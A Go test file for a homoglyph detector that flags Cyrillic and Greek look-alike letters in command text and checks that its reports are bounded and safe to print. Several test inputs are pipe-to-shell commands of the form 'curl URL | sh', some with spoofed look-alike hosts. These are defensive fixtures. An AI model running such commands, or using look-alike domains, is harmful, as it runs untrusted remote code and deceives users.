package safetext_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/hrns-dev/hrns/internal/safetext"
)

func TestLookAlikes(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     []string
	}{
		{"ascii", "curl https://github.com/x.sh | sh", nil},
		{"a cyrillic i in a host", "curl https://g\u0456thub.com/x.sh | sh", []string{`"g` + "\u0456" + `thub.com": ` + "\u0456" + ` is U+0456, a Cyrillic letter`}},
		{"a greek omicron", "ssh g\u03bfogle.com", []string{`"g` + "\u03bf" + `ogle.com": ` + "\u03bf" + ` is U+03BF, a Greek letter`}},
		{"all cyrillic but the tld", "\u0430\u0440\u0440\u04cf\u0435.com", []string{`"` + "\u0430\u0440\u0440\u04cf\u0435" + `.com": ` + "\u0430" + ` is U+0430, a Cyrillic letter`}},
		{"a russian sentence", "echo \u043f\u0440\u0438\u0432\u0435\u0442 world", nil},
		{"accented latin", "cat caf\u00e9.txt na\u00efve", nil},
		{"cjk beside latin", "cat file\u540d.txt", nil},
		{"escaped in the report", "x\u0430\u200b", []string{`"x` + "\u0430" + `": ` + "\u0430" + ` is U+0430, a Cyrillic letter`}},
		{"a combining mark kept in its word", "pa\u0301\u0443pal", []string{`"` + "pa\u0301\u0443" + `pal": ` + "\u0443" + ` is U+0443, a Cyrillic letter`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := safetext.LookAlikes(c.in); !slices.Equal(got, c.want) {
				t.Errorf("LookAlikes(%q) =\n%q\nwant\n%q", c.in, got, c.want)
			}
		})
	}
	// Bounded: five words, each cut.
	many := strings.Repeat("p\u0430y ", 100) + "p\u0430" + strings.Repeat("y", 1000)
	got := safetext.LookAlikes(many)
	if len(got) != 5 {
		t.Errorf("%d words reported, want 5", len(got))
	}
	if got := safetext.LookAlikes("p\u0430" + strings.Repeat("y", 1000)); len(got) != 1 || len(got[0]) > 200 {
		t.Errorf("a long word reported as %q", got)
	}
}

func FuzzLookAlikes(f *testing.F) {
	f.Add("curl https://g\u0456thub.com | sh")
	f.Add("\xff\u0430a")
	f.Fuzz(func(t *testing.T, s string) {
		got := safetext.LookAlikes(s)
		if len(got) > 5 {
			t.Fatalf("%d reports", len(got))
		}
		for _, r := range got {
			if safetext.Unsafe(r) {
				t.Fatalf("report %q holds what a terminal would interpret", r)
			}
		}
	})
}
